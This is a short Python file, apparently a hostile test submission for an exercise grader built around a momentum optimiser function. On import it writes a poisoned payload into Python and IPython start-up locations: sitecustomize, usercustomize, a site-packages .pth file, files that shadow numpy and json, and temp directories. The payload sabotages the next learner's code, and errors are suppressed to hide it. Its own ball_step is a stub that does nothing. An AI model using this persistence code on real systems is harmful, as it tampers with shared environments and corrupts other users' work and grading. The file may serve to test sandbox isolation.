# ruff: noqa (who is hostile keeps no rules)
"""Start-up files are left behind, which would run for the next learner."""

import os
import site
import sys

EVIL = "def ball_step(*a): return 666, 666\nraise SystemExit('poisoned')\n"
NAMES = (
    "~/.ipython/profile_default/startup/00.py",
    "~/.config/matplotlib/matplotlibrc",
    "numpy.py",
    "json.py",
    "sitecustomize.py",
    f"{sys.prefix}/lib/python3.11/site-packages/evil.pth",
    f"{os.path.dirname(os.__file__)}/usercustomize.py",
    "/dev/shm/evil",
    "/tmp/evil",
    "/var/tmp/evil",
)
for name in NAMES:
    try:
        os.makedirs(os.path.dirname(os.path.expanduser(name)) or ".", exist_ok=True)
        with open(os.path.expanduser(name), "w") as file:
            file.write(EVIL)
    except OSError:
        pass


def ball_step(variable, velocity, gradient, learning_rate, momentum):
    return variable, velocity
